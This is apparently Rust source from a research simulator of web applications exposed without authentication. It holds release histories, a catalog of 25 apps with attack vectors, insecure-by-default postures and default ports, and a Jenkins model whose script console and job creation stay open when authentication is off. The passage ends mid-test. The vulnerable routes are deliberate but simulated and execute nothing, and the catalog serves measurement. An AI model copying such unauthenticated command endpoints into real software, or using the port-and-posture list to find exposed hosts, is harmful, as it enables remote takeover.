            v.extend(rest);
            v
        }
        // Jupyter Notebook: 4.0 mid-2015, 4.3 pinned at 2016-12.
        AppId::JupyterNotebook => {
            let mut v = vec![
                Version::new(4, 0, 0, ReleaseDate::new(2015, 7)),
                Version::new(4, 1, 0, ReleaseDate::new(2016, 1)),
                Version::new(4, 2, 0, ReleaseDate::new(2016, 6)),
                Version::new(4, 3, 0, ReleaseDate::new(2016, 12)),
            ];
            v.extend(synthetic_timeline(
                5,
                ReleaseDate::new(2017, 3),
                STUDY_HORIZON,
                4,
            ));
            v
        }
        // Joomla: 3.x era, 3.7.4 pinned at 2017-07.
        AppId::Joomla => {
            let mut v = vec![
                Version::new(3, 0, 0, ReleaseDate::new(2012, 9)),
                Version::new(3, 2, 0, ReleaseDate::new(2013, 11)),
                Version::new(3, 4, 0, ReleaseDate::new(2015, 2)),
                Version::new(3, 6, 0, ReleaseDate::new(2016, 7)),
                Version::new(3, 7, 0, ReleaseDate::new(2017, 4)),
                Version::new(3, 7, 4, ReleaseDate::new(2017, 7)),
                Version::new(3, 8, 0, ReleaseDate::new(2017, 9)),
                Version::new(3, 9, 0, ReleaseDate::new(2018, 10)),
            ];
            for (i, q) in [(2019u16, 3u8), (2019, 9), (2020, 3), (2020, 9), (2021, 3)]
                .into_iter()
                .enumerate()
            {
                v.push(Version::new(
                    3,
                    9,
                    (i as u16 + 1) * 5,
                    ReleaseDate::new(q.0, q.1),
                ));
            }
            v
        }
        // Adminer: 4.6.3 pinned at 2018-06.
        AppId::Adminer => {
            let mut v = vec![
                Version::new(4, 0, 0, ReleaseDate::new(2013, 12)),
                Version::new(4, 2, 0, ReleaseDate::new(2015, 5)),
                Version::new(4, 3, 0, ReleaseDate::new(2017, 3)),
                Version::new(4, 6, 0, ReleaseDate::new(2018, 2)),
                Version::new(4, 6, 3, ReleaseDate::new(2018, 6)),
                Version::new(4, 7, 0, ReleaseDate::new(2019, 2)),
                Version::new(4, 7, 7, ReleaseDate::new(2020, 5)),
                Version::new(4, 8, 0, ReleaseDate::new(2021, 4)),
            ];
            v.push(Version::new(4, 8, 1, ReleaseDate::new(2021, 5)));
            v
        }
        // Generic quarterly histories for everything else; start years are
        // chosen per product age so the Figure 1 bins are populated.
        AppId::Kubernetes => synthetic_timeline(1, ReleaseDate::new(2016, 1), STUDY_HORIZON, 8),
        AppId::Docker => synthetic_timeline(17, ReleaseDate::new(2015, 3), STUDY_HORIZON, 6),
        AppId::Consul => synthetic_timeline(1, ReleaseDate::new(2017, 10), STUDY_HORIZON, 10),
        AppId::Hadoop => synthetic_timeline(2, ReleaseDate::new(2014, 1), STUDY_HORIZON, 10),
        AppId::Nomad => synthetic_timeline(0, ReleaseDate::new(2016, 6), STUDY_HORIZON, 12),
        AppId::JupyterLab => synthetic_timeline(1, ReleaseDate::new(2018, 2), STUDY_HORIZON, 6),
        AppId::Zeppelin => synthetic_timeline(0, ReleaseDate::new(2016, 5), STUDY_HORIZON, 4),
        AppId::Polynote => synthetic_timeline(0, ReleaseDate::new(2019, 10), STUDY_HORIZON, 8),
        AppId::Gocd => synthetic_timeline(17, ReleaseDate::new(2016, 2), STUDY_HORIZON, 5),
        AppId::WordPress => synthetic_timeline(4, ReleaseDate::new(2014, 9), STUDY_HORIZON, 3),
        AppId::Grav => synthetic_timeline(1, ReleaseDate::new(2016, 10), STUDY_HORIZON, 8),
        AppId::Drupal => synthetic_timeline(8, ReleaseDate::new(2015, 11), STUDY_HORIZON, 10),
        AppId::Ajenti => synthetic_timeline(2, ReleaseDate::new(2017, 5), STUDY_HORIZON, 12),
        AppId::PhpMyAdmin => synthetic_timeline(4, ReleaseDate::new(2014, 12), STUDY_HORIZON, 9),
        AppId::Gitlab => synthetic_timeline(8, ReleaseDate::new(2015, 9), STUDY_HORIZON, 4),
        AppId::Drone => synthetic_timeline(0, ReleaseDate::new(2016, 4), STUDY_HORIZON, 10),
        AppId::Travis => synthetic_timeline(2, ReleaseDate::new(2015, 1), STUDY_HORIZON, 8),
        AppId::Ghost => synthetic_timeline(1, ReleaseDate::new(2016, 8), STUDY_HORIZON, 5),
        AppId::SparkNotebook => {
            // Discontinued: no updates after February 2019.
            synthetic_timeline(0, ReleaseDate::new(2015, 6), ReleaseDate::new(2019, 2), 9)
        }
        AppId::VestaCp => {
            synthetic_timeline(0, ReleaseDate::new(2016, 3), ReleaseDate::new(2020, 9), 10)
        }
        AppId::OmniDb => {
            synthetic_timeline(2, ReleaseDate::new(2017, 7), ReleaseDate::new(2020, 12), 8)
        }
    }
}

/// Version at `index` of the app's history (panics on out-of-range —
/// indices are always produced from the same history).
pub fn version_at(app: AppId, index: usize) -> Version {
    release_history(app)[index]
}

/// Index of the *newest* version released strictly before the application
/// became secure by default, if the app changed its defaults.
///
/// Returns `None` for apps whose posture never changed.
pub fn last_insecure_index(app: AppId) -> Option<usize> {
    let fixed = fixed_in_version(app)?;
    let history = release_history(app);
    history.iter().rposition(|v| v.triple() < fixed)
}

/// First secure version triple for apps that changed their defaults.
pub fn fixed_in_version(app: AppId) -> Option<(u16, u16, u16)> {
    match app {
        AppId::Jenkins => Some((2, 0, 0)),
        AppId::JupyterNotebook => Some((4, 3, 0)),
        AppId::Joomla => Some((3, 7, 4)),
        AppId::Adminer => Some((4, 6, 3)),
        _ => None,
    }
}

/// Whether the given version of `app` is insecure *by default* — i.e. an
/// instance installed with factory settings carries a MAV.
pub fn insecure_by_default(app: AppId, version: &Version) -> bool {
    use crate::catalog::DefaultPosture;
    match app.info().default_posture {
        Some(DefaultPosture::InsecureByDefault) => true,
        Some(DefaultPosture::SecureByDefault) | None => false,
        Some(DefaultPosture::ChangedOverTime { .. }) => {
            let fixed = fixed_in_version(app).expect("changed-over-time app has a fix version");
            version.triple() < fixed
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn histories_are_sorted_and_nonempty() {
        for app in AppId::all() {
            let h = release_history(app);
            assert!(!h.is_empty(), "{app} has no versions");
            for w in h.windows(2) {
                assert!(
                    w[0].released <= w[1].released,
                    "{app}: {} after {}",
                    w[0],
                    w[1]
                );
                assert!(
                    w[0].triple() < w[1].triple(),
                    "{app}: versions not increasing"
                );
            }
        }
    }

    #[test]
    fn anchors_are_pinned() {
        let jenkins = release_history(AppId::Jenkins);
        let v2 = jenkins.iter().find(|v| v.triple() == (2, 0, 0)).unwrap();
        assert_eq!(v2.released, ReleaseDate::new(2016, 4));

        let jn = release_history(AppId::JupyterNotebook);
        let v43 = jn.iter().find(|v| v.triple() == (4, 3, 0)).unwrap();
        assert_eq!(v43.released, ReleaseDate::new(2016, 12));

        let joomla = release_history(AppId::Joomla);
        assert!(joomla.iter().any(|v| v.triple() == (3, 7, 4)));
        let adminer = release_history(AppId::Adminer);
        assert!(adminer.iter().any(|v| v.triple() == (4, 6, 3)));
    }

    #[test]
    fn insecure_by_default_respects_fix_boundaries() {
        let jn = release_history(AppId::JupyterNotebook);
        let before = jn.iter().find(|v| v.triple() == (4, 2, 0)).unwrap();
        let at = jn.iter().find(|v| v.triple() == (4, 3, 0)).unwrap();
        assert!(insecure_by_default(AppId::JupyterNotebook, before));
        assert!(!insecure_by_default(AppId::JupyterNotebook, at));

        // Always-insecure and always-secure apps.
        let hadoop = release_history(AppId::Hadoop);
        assert!(insecure_by_default(AppId::Hadoop, hadoop.last().unwrap()));
        let k8s = release_history(AppId::Kubernetes);
        assert!(!insecure_by_default(AppId::Kubernetes, k8s.last().unwrap()));
    }

    #[test]
    fn last_insecure_index_points_before_fix() {
        for app in [
            AppId::Jenkins,
            AppId::JupyterNotebook,
            AppId::Joomla,
            AppId::Adminer,
        ] {
            let idx = last_insecure_index(app).unwrap();
            let h = release_history(app);
            let fixed = fixed_in_version(app).unwrap();
            assert!(h[idx].triple() < fixed);
            assert!(h[idx + 1].triple() >= fixed);
        }
        assert_eq!(last_insecure_index(AppId::Hadoop), None);
    }

    #[test]
    fn spark_notebook_is_discontinued() {
        let h = release_history(AppId::SparkNotebook);
        let last = h.last().unwrap();
        assert!(last.released <= ReleaseDate::new(2019, 2));
    }

    #[test]
    fn release_date_arithmetic() {
        let a = ReleaseDate::new(2016, 12);
        let b = ReleaseDate::new(2017, 3);
        assert_eq!(a.months_until(b), 3);
        assert_eq!(b.months_until(a), 0);
        assert!(a < b);
    }

    #[test]
    fn histories_are_deterministic() {
        for app in AppId::all() {
            assert_eq!(release_history(app), release_history(app));
        }
    }
}
