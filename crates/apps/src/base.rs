//! Shared plumbing for application models.

use crate::assets::asset_content;
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::version::Version;
use nokeys_http::{Request, Response};

/// State common to every application model: identity, version, live
/// configuration and the deployment snapshot used by `restore`.
#[derive(Debug, Clone)]
pub struct BaseApp {
    pub id: AppId,
    pub version: Version,
    pub config: AppConfig,
    deployed: AppConfig,
}

impl BaseApp {
    pub fn new(id: AppId, version: Version, config: AppConfig) -> Self {
        BaseApp {
            id,
            version,
            config,
            deployed: config,
        }
    }

    /// Restore the configuration to the deployment snapshot.
    pub fn restore(&mut self) {
        self.config = self.deployed;
    }

    /// Serve the static-asset corpus (`/static/...`) used by the
    /// fingerprinter crawler. Returns `None` for non-asset paths.
    pub fn serve_asset(&self, req: &Request) -> Option<Response> {
        if !req.path().starts_with("/static/") {
            return None;
        }
        match asset_content(self.id, &self.version, req.path()) {
            Some(content) => {
                let mime = if req.path().ends_with(".css") {
                    "text/css"
                } else if req.path().ends_with(".svg") {
                    "image/svg+xml"
                } else {
                    "application/javascript"
                };
                Some(
                    Response::new(nokeys_http::StatusCode::OK)
                        .with_header("Content-Type", mime)
                        .with_body(content),
                )
            }
            None => Some(Response::not_found()),
        }
    }
}

/// Implement the boilerplate parts of [`crate::WebApp`] for a type with a
/// `base: BaseApp` field; the type only supplies `route`.
macro_rules! impl_webapp {
    ($ty:ty) => {
        impl $crate::traits::WebApp for $ty {
            fn id(&self) -> $crate::catalog::AppId {
                self.base.id
            }
            fn version(&self) -> $crate::version::Version {
                self.base.version
            }
            fn config(&self) -> $crate::config::AppConfig {
                self.base.config
            }
            fn handle(
                &mut self,
                req: &nokeys_http::Request,
                peer: std::net::Ipv4Addr,
            ) -> $crate::events::HandleOutcome {
                if let Some(resp) = self.base.serve_asset(req) {
                    return $crate::events::HandleOutcome::plain(resp);
                }
                self.route(req, peer)
            }
            fn restore(&mut self) {
                self.base.restore();
                self.reset_state();
            }
        }
    };
}
pub(crate) use impl_webapp;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::version::release_history;

    #[test]
    fn restore_resets_config() {
        let v = *release_history(AppId::Gocd).last().unwrap();
        let cfg = AppConfig::vulnerable_for(AppId::Gocd, &v);
        let mut base = BaseApp::new(AppId::Gocd, v, cfg);
        base.config.auth_enabled = true;
        base.restore();
        assert_eq!(base.config, cfg);
    }

    #[test]
    fn serves_assets_with_mime_types() {
        let v = release_history(AppId::Hadoop)[0];
        let base = BaseApp::new(AppId::Hadoop, v, AppConfig::secure_for(AppId::Hadoop, &v));
        let resp = base
            .serve_asset(&Request::get("/static/style.css"))
            .unwrap();
        assert_eq!(resp.headers.get("content-type"), Some("text/css"));
        let resp = base.serve_asset(&Request::get("/static/app.js")).unwrap();
        assert_eq!(
            resp.headers.get("content-type"),
            Some("application/javascript")
        );
        assert!(base.serve_asset(&Request::get("/other")).is_none());
        let resp = base
            .serve_asset(&Request::get("/static/missing.js"))
            .unwrap();
        assert_eq!(resp.status.as_u16(), 404);
    }
}
