//! The catalog of the 25 investigated applications (paper Table 1).
//!
//! This module is pure data: identifiers, categories, GitHub-star counts,
//! attack vectors, default postures, warnings and default ports, exactly as
//! reported in Section 2.1 of the paper.

use serde::{Deserialize, Serialize};
use std::fmt;

/// The five AWE categories of Section 2.1.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum Category {
    /// Continuous integration.
    Ci,
    /// Content management systems.
    Cms,
    /// Cluster management.
    Cm,
    /// Notebooks.
    Nb,
    /// Control panels.
    Cp,
}

impl Category {
    pub const ALL: [Category; 5] = [
        Category::Ci,
        Category::Cms,
        Category::Cm,
        Category::Nb,
        Category::Cp,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Category::Ci => "CI",
            Category::Cms => "CMS",
            Category::Cm => "CM",
            Category::Nb => "NB",
            Category::Cp => "CP",
        }
    }
}

impl fmt::Display for Category {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// All 25 investigated applications.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum AppId {
    Gitlab,
    Drone,
    Jenkins,
    Travis,
    Gocd,
    Ghost,
    WordPress,
    Grav,
    Joomla,
    Drupal,
    Kubernetes,
    Docker,
    Consul,
    Hadoop,
    Nomad,
    JupyterLab,
    JupyterNotebook,
    Zeppelin,
    Polynote,
    SparkNotebook,
    Ajenti,
    PhpMyAdmin,
    Adminer,
    VestaCp,
    OmniDb,
}

/// How an application can be abused once exposed (Table 1 "Vuln" column).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum AttackVector {
    /// Direct system-command execution (terminal, build step, script).
    Syscmd,
    /// Unfinished installation can be hijacked to gain admin.
    Install,
    /// An administrative HTTP API allows code execution.
    Api,
    /// SQL command execution against the backing database.
    Sql,
}

impl AttackVector {
    pub fn as_str(self) -> &'static str {
        match self {
            AttackVector::Syscmd => "Syscmd",
            AttackVector::Install => "Install",
            AttackVector::Api => "API",
            AttackVector::Sql => "SQL",
        }
    }
}

/// Default security posture (Table 1 "Default MAV" / Table 3 "Default").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum DefaultPosture {
    /// Secure by default; a MAV requires explicit misconfiguration.
    SecureByDefault,
    /// Was insecure by default until the given version (year of the change).
    ChangedOverTime {
        /// First secure version, e.g. "2.0" for Jenkins.
        fixed_in: &'static str,
        year: u16,
    },
    /// A MAV exists in the default configuration.
    InsecureByDefault,
}

impl DefaultPosture {
    /// Rendering used by Tables 3 and 9: `✓` secure, `†` changed, `✗`
    /// insecure by default.
    pub fn symbol(self) -> &'static str {
        match self {
            DefaultPosture::SecureByDefault => "✓",
            DefaultPosture::ChangedOverTime { .. } => "†",
            DefaultPosture::InsecureByDefault => "✗",
        }
    }
}

/// Whether the vendor warns about the insecure setup (Table 1 "Warn").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Warning {
    /// A prominent warning exists (docs, download page or startup).
    Present,
    /// No warning found.
    Absent,
    /// Not applicable (secure by default or out of scope).
    NotApplicable,
}

impl Warning {
    pub fn symbol(self) -> &'static str {
        match self {
            Warning::Present => "✓",
            Warning::Absent => "✗",
            Warning::NotApplicable => "—",
        }
    }
}

/// Static description of one investigated application.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct AppInfo {
    pub id: AppId,
    pub name: &'static str,
    pub category: Category,
    /// GitHub stars in thousands at the time of the study.
    pub stars_k: u32,
    /// `None` for the 7 out-of-scope applications.
    pub vector: Option<AttackVector>,
    /// `None` for out-of-scope applications.
    pub default_posture: Option<DefaultPosture>,
    pub warning: Warning,
    /// Default port the application listens on besides 80/443 (None for
    /// apps that live behind a regular web server).
    pub default_port: Option<u16>,
}

impl AppInfo {
    /// In scope for the MAV study (18 of 25).
    pub fn in_scope(&self) -> bool {
        self.vector.is_some()
    }
}

/// The full Table 1 data set, in paper order.
pub const CATALOG: [AppInfo; 25] = [
    AppInfo {
        id: AppId::Gitlab,
        name: "Gitlab",
        category: Category::Ci,
        stars_k: 23,
        vector: None,
        default_posture: None,
        warning: Warning::NotApplicable,
        default_port: None,
    },
    AppInfo {
        id: AppId::Drone,
        name: "Drone",
        category: Category::Ci,
        stars_k: 23,
        vector: None,
        default_posture: None,
        warning: Warning::NotApplicable,
        default_port: None,
    },
    AppInfo {
        id: AppId::Jenkins,
        name: "Jenkins",
        category: Category::Ci,
        stars_k: 18,
        vector: Some(AttackVector::Syscmd),
        default_posture: Some(DefaultPosture::ChangedOverTime {
            fixed_in: "2.0",
            year: 2016,
        }),
        warning: Warning::NotApplicable,
        default_port: Some(8080),
    },
    AppInfo {
        id: AppId::Travis,
        name: "Travis",
        category: Category::Ci,
        stars_k: 8,
        vector: None,
        default_posture: None,
        warning: Warning::NotApplicable,
        default_port: None,
    },
    AppInfo {
        id: AppId::Gocd,
        name: "GoCD",
        category: Category::Ci,
        stars_k: 6,
        vector: Some(AttackVector::Syscmd),
        default_posture: Some(DefaultPosture::InsecureByDefault),
        warning: Warning::Present,
        default_port: Some(8153),
    },
    AppInfo {
        id: AppId::Ghost,
        name: "Ghost",
        category: Category::Cms,
        stars_k: 38,
        vector: None,
        default_posture: None,
        warning: Warning::NotApplicable,
        default_port: None,
    },
    AppInfo {
        id: AppId::WordPress,
        name: "WordPress",
        category: Category::Cms,
        stars_k: 15,
        vector: Some(AttackVector::Install),
        default_posture: Some(DefaultPosture::InsecureByDefault),
        warning: Warning::Absent,
        default_port: None,
    },
    AppInfo {
        id: AppId::Grav,
        name: "Grav",
        category: Category::Cms,
        stars_k: 13,
        vector: Some(AttackVector::Install),
        default_posture: Some(DefaultPosture::InsecureByDefault),
        warning: Warning::Absent,
        default_port: None,
    },
    AppInfo {
        id: AppId::Joomla,
        name: "Joomla",
        category: Category::Cms,
        stars_k: 4,
        vector: Some(AttackVector::Install),
        default_posture: Some(DefaultPosture::ChangedOverTime {
            fixed_in: "3.7.4",
            year: 2017,
        }),
        warning: Warning::NotApplicable,
        default_port: None,
    },
    AppInfo {
        id: AppId::Drupal,
        name: "Drupal",
        category: Category::Cms,
        stars_k: 4,
        vector: Some(AttackVector::Install),
        default_posture: Some(DefaultPosture::InsecureByDefault),
        warning: Warning::Absent,
        default_port: None,
    },
    AppInfo {
        id: AppId::Kubernetes,
        name: "Kubernetes",
        category: Category::Cm,
        stars_k: 78,
        vector: Some(AttackVector::Api),
        default_posture: Some(DefaultPosture::SecureByDefault),
        warning: Warning::NotApplicable,
        default_port: Some(6443),
    },
    AppInfo {
        id: AppId::Docker,
        name: "Docker",
        category: Category::Cm,
        stars_k: 23,
        vector: Some(AttackVector::Api),
        default_posture: Some(DefaultPosture::InsecureByDefault),
        warning: Warning::Absent,
        default_port: Some(2375),
    },
    AppInfo {
        id: AppId::Consul,
        name: "Consul",
        category: Category::Cm,
        stars_k: 22,
        vector: Some(AttackVector::Api),
        default_posture: Some(DefaultPosture::SecureByDefault),
        warning: Warning::NotApplicable,
        default_port: Some(8500),
    },
    AppInfo {
        id: AppId::Hadoop,
        name: "Hadoop",
        category: Category::Cm,
        stars_k: 12,
        vector: Some(AttackVector::Api),
        default_posture: Some(DefaultPosture::InsecureByDefault),
        warning: Warning::Absent,
        default_port: Some(8088),
    },
    AppInfo {
        id: AppId::Nomad,
        name: "Nomad",
        category: Category::Cm,
        stars_k: 9,
        vector: Some(AttackVector::Api),
        default_posture: Some(DefaultPosture::InsecureByDefault),
        warning: Warning::Present,
        default_port: Some(4646),
    },
    AppInfo {
        id: AppId::JupyterLab,
        name: "J-Lab",
        category: Category::Nb,
        stars_k: 11,
        vector: Some(AttackVector::Syscmd),
        default_posture: Some(DefaultPosture::SecureByDefault),
        warning: Warning::NotApplicable,
        default_port: Some(8888),
    },
    AppInfo {
        id: AppId::JupyterNotebook,
        name: "J-Notebook",
        category: Category::Nb,
        stars_k: 8,
        vector: Some(AttackVector::Syscmd),
        default_posture: Some(DefaultPosture::ChangedOverTime {
            fixed_in: "4.3",
            year: 2016,
        }),
        warning: Warning::NotApplicable,
        default_port: Some(8888),
    },
    AppInfo {
        id: AppId::Zeppelin,
        name: "Zeppelin",
        category: Category::Nb,
        stars_k: 5,
        vector: Some(AttackVector::Syscmd),
        default_posture: Some(DefaultPosture::InsecureByDefault),
        warning: Warning::Absent,
        default_port: Some(8080),
    },
    AppInfo {
        id: AppId::Polynote,
        name: "Polynote",
        category: Category::Nb,
        stars_k: 4,
        vector: Some(AttackVector::Syscmd),
        default_posture: Some(DefaultPosture::InsecureByDefault),
        warning: Warning::Present,
        default_port: Some(8192),
    },
    AppInfo {
        id: AppId::SparkNotebook,
        name: "Spark NB",
        category: Category::Nb,
        stars_k: 3,
        vector: None,
        default_posture: None,
        warning: Warning::NotApplicable,
        default_port: None,
    },
    AppInfo {
        id: AppId::Ajenti,
        name: "Ajenti",
        category: Category::Cp,
        stars_k: 6,
        vector: Some(AttackVector::Syscmd),
        default_posture: Some(DefaultPosture::SecureByDefault),
        warning: Warning::Present,
        default_port: Some(8000),
    },
    AppInfo {
        id: AppId::PhpMyAdmin,
        name: "Phpmyadmin",
        category: Category::Cp,
        stars_k: 6,
        vector: Some(AttackVector::Sql),
        default_posture: Some(DefaultPosture::SecureByDefault),
        warning: Warning::Absent,
        default_port: None,
    },
    AppInfo {
        id: AppId::Adminer,
        name: "Adminer",
        category: Category::Cp,
        stars_k: 5,
        vector: Some(AttackVector::Sql),
        default_posture: Some(DefaultPosture::ChangedOverTime {
            fixed_in: "4.6.3",
            year: 2018,
        }),
        warning: Warning::NotApplicable,
        default_port: None,
    },
    AppInfo {
        id: AppId::VestaCp,
        name: "VestaCP",
        category: Category::Cp,
        stars_k: 3,
        vector: None,
        default_posture: None,
        warning: Warning::NotApplicable,
        default_port: None,
    },
    AppInfo {
        id: AppId::OmniDb,
        name: "OmniDB",
        category: Category::Cp,
        stars_k: 3,
        vector: None,
        default_posture: None,
        warning: Warning::NotApplicable,
        default_port: None,
    },
];

impl AppId {
    /// All 25 applications, paper order.
    pub fn all() -> impl Iterator<Item = AppId> {
        CATALOG.iter().map(|a| a.id)
    }

    /// The 18 in-scope applications, paper order.
    pub fn in_scope() -> impl Iterator<Item = AppId> {
        CATALOG.iter().filter(|a| a.in_scope()).map(|a| a.id)
    }

    /// Catalog entry for this application.
    pub fn info(self) -> &'static AppInfo {
        CATALOG
            .iter()
            .find(|a| a.id == self)
            .expect("every AppId is in CATALOG")
    }

    /// Human-readable name as used in the paper's tables.
    pub fn name(self) -> &'static str {
        self.info().name
    }

    /// The ports this application is reachable on in the study: its
    /// dedicated default port or, for apps served by a web server, 80/443.
    pub fn scan_ports(self) -> &'static [u16] {
        match self.info().default_port {
            Some(8080) => &[8080],
            Some(8153) => &[8153],
            Some(6443) => &[6443],
            Some(2375) => &[2375],
            Some(8500) => &[8500],
            Some(8088) => &[8088],
            Some(4646) => &[4646],
            Some(8888) => &[8888],
            Some(8192) => &[8192],
            Some(8000) => &[8000],
            _ => &[80, 443],
        }
    }
}

impl fmt::Display for AppId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// The 12 ports of the Internet-wide scan (Table 2): 80, 443 and the
/// default ports of the 18 selected applications (with overlap removed).
pub const SCAN_PORTS: [u16; 12] = [
    80, 443, 2375, 4646, 6443, 8000, 8080, 8088, 8153, 8192, 8500, 8888,
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn catalog_has_25_apps_18_in_scope() {
        assert_eq!(CATALOG.len(), 25);
        assert_eq!(AppId::in_scope().count(), 18);
    }

    #[test]
    fn five_apps_per_category() {
        for cat in Category::ALL {
            let n = CATALOG.iter().filter(|a| a.category == cat).count();
            assert_eq!(n, 5, "{cat} should have 5 representatives");
        }
    }

    #[test]
    fn vector_distribution_matches_paper() {
        // "7 ... directly execute system commands, 5 expose a critical API,
        //  2 allow to execute SQL commands and 4 are unsafe in their
        //  pre-installation state."
        let count = |v: AttackVector| CATALOG.iter().filter(|a| a.vector == Some(v)).count();
        assert_eq!(count(AttackVector::Syscmd), 7);
        assert_eq!(count(AttackVector::Api), 5);
        assert_eq!(count(AttackVector::Sql), 2);
        assert_eq!(count(AttackVector::Install), 4);
    }

    #[test]
    fn posture_distribution_matches_paper() {
        // "9 are insecure by default, 4 were insecure by default in an
        //  older version, and another 5 are easy to misconfigure."
        let insecure = CATALOG
            .iter()
            .filter(|a| a.default_posture == Some(DefaultPosture::InsecureByDefault))
            .count();
        let changed = CATALOG
            .iter()
            .filter(|a| {
                matches!(
                    a.default_posture,
                    Some(DefaultPosture::ChangedOverTime { .. })
                )
            })
            .count();
        let secure = CATALOG
            .iter()
            .filter(|a| a.default_posture == Some(DefaultPosture::SecureByDefault))
            .count();
        assert_eq!(insecure, 9);
        assert_eq!(changed, 4);
        assert_eq!(secure, 5);
    }

    #[test]
    fn every_app_resolves_info() {
        for id in AppId::all() {
            assert_eq!(id.info().id, id);
            assert!(!id.scan_ports().is_empty());
        }
    }

    #[test]
    fn scan_ports_are_subset_of_table2() {
        for id in AppId::in_scope() {
            for p in id.scan_ports() {
                assert!(
                    SCAN_PORTS.contains(p),
                    "{id} port {p} missing from SCAN_PORTS"
                );
            }
        }
    }

    #[test]
    fn posture_symbols() {
        assert_eq!(DefaultPosture::SecureByDefault.symbol(), "✓");
        assert_eq!(
            DefaultPosture::ChangedOverTime {
                fixed_in: "2.0",
                year: 2016
            }
            .symbol(),
            "†"
        );
        assert_eq!(DefaultPosture::InsecureByDefault.symbol(), "✗");
    }
}
