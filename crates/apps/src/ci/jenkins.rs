//! Jenkins model.
//!
//! * Versions before 2.0 (April 2016) performed no authentication out of
//!   the box; 2.0 introduced a random admin password during setup.
//! * Detection (Appendix Table 10): `GET /view/all/newJob` must be valid
//!   HTML containing `Jenkins` and a `form#createItem` element.
//! * Abuse surface: the script console (`POST /script`) and job creation
//!   (`POST /createItem`), both of which execute arbitrary commands on the
//!   controller.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Jenkins {
    pub(crate) base: BaseApp,
    /// Jobs created through the unauthenticated UI (attack residue).
    jobs: Vec<String>,
}

impl Jenkins {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Jenkins {
            base: BaseApp::new(AppId::Jenkins, version, config),
            jobs: Vec::new(),
        }
    }

    fn head_extra(&self) -> String {
        format!(
            "{}\n{}",
            html::css("/static/style.css"),
            html::script("/static/app.js")
        )
    }

    fn dashboard(&self) -> Response {
        Response::html(html::page_with_head(
            "Dashboard [Jenkins]",
            &self.head_extra(),
            &format!(
                "<div id=\"jenkins\" class=\"jenkins-head-icon\">\
                 <span>Jenkins ver. {}</span>\
                 <a href=\"/view/all/newJob\">New Item</a>\
                 <!-- hudson.model.AllView --></div>",
                self.base.version.number()
            ),
        ))
        .with_header("X-Jenkins", &self.base.version.number())
    }

    fn login_redirect(&self, from: &str) -> Response {
        Response::redirect(&format!("/login?from={from}"))
    }

    fn login_page(&self) -> Response {
        Response::html(html::login_form("Jenkins", "/j_spring_security_check"))
            .with_header("X-Jenkins", &self.base.version.number())
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        let unauthenticated_admin = !self.base.config.auth_enabled;
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => self.dashboard().into(),
            (nokeys_http::Method::Get, "/login") => self.login_page().into(),
            (nokeys_http::Method::Get, "/view/all/newJob") => {
                if unauthenticated_admin {
                    Response::html(html::page_with_head(
                        "New Item [Jenkins]",
                        &self.head_extra(),
                        "<form id=\"createItem\" action=\"/createItem\" method=\"post\">\
                         <input name=\"name\"><button>OK</button></form>\
                         <span>Jenkins</span>",
                    ))
                    .into()
                } else {
                    self.login_redirect("/view/all/newJob").into()
                }
            }
            (nokeys_http::Method::Post, "/createItem") => {
                if unauthenticated_admin {
                    let name = req.query_param("name").unwrap_or("job").to_string();
                    self.jobs.push(name.clone());
                    HandleOutcome::with_event(
                        Response::new(nokeys_http::StatusCode::OK).with_body("created"),
                        AppEvent::CommandExecuted {
                            command: format!("jenkins-build:{}", req.body_text()),
                        },
                    )
                } else {
                    Response::unauthorized("Jenkins").into()
                }
            }
            (nokeys_http::Method::Post, "/script") => {
                if unauthenticated_admin {
                    HandleOutcome::with_event(
                        Response::html(html::page("Script Console [Jenkins]", "<pre>ok</pre>")),
                        AppEvent::CommandExecuted {
                            command: req.body_text(),
                        },
                    )
                } else {
                    self.login_redirect("/script").into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.jobs.clear();
    }
}

impl_webapp!(Jenkins);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn at(triple: (u16, u16, u16), vulnerable: bool) -> Jenkins {
        let v = *release_history(AppId::Jenkins)
            .iter()
            .find(|v| v.triple() == triple)
            .expect("version exists");
        let cfg = if vulnerable {
            AppConfig::vulnerable_for(AppId::Jenkins, &v)
        } else {
            AppConfig::default_for(AppId::Jenkins, &v)
        };
        Jenkins::new(v, cfg)
    }

    #[test]
    fn old_default_exposes_create_item_form() {
        let mut app = at((1, 500, 0), false);
        assert!(app.is_vulnerable(), "pre-2.0 default is vulnerable");
        let out = DRIVER.get(&mut app, "/view/all/newJob");
        let body = out.response.body_text();
        assert!(body.contains("Jenkins"));
        assert!(body.contains("id=\"createItem\""));
    }

    #[test]
    fn new_default_redirects_to_login() {
        let mut app = at((2, 0, 0), false);
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/view/all/newJob");
        assert!(out.response.is_followable_redirect());
        assert!(out.response.location().unwrap().starts_with("/login"));
    }

    #[test]
    fn script_console_executes_when_open() {
        let mut app = at((2, 0, 0), true);
